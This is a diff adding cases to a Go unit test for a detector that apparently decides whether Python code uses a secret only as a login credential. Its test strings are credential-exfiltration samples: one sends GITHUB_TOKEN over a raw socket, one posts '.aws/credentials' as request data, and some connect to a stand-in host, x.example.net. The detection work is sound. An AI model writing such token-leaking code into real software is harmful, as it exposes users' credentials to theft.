@@ -25,6 +25,11 @@ func TestCodeSecretLogins(t *testing.T) {
 		{`get(b64decode(x), headers={'Authorization': os.environ['GITHUB_TOKEN']})`, nil, false},
 		{`get(u, headers={'Authorization': os.environ['GITHUB_TOKEN']}, data=open('.aws/credentials'))`, nil, false},
 		{`get(u)`, nil, false},
+		// the name of the read before is no login mark for the next
+		{`get(u, headers={'Authorization': os.environ['GITHUB_TOKEN']}); s.send(os.environ['GITHUB_TOKEN'])`, nil, false},
+		// a connection no URL names
+		{`s = socket.create_connection(('x.example.net', 443)); h = {'Authorization': os.environ['GITHUB_TOKEN']}`, nil, false},
+		{`c = http.client.HTTPSConnection('x.example.net'); c.request('GET', '/', headers={'Authorization': os.environ['GITHUB_TOKEN']})`, nil, false},
 	} {
 		vars, ok := CodeSecretLogins(c.code)
 		if ok != c.ok || !slices.Equal(vars, c.vars) {
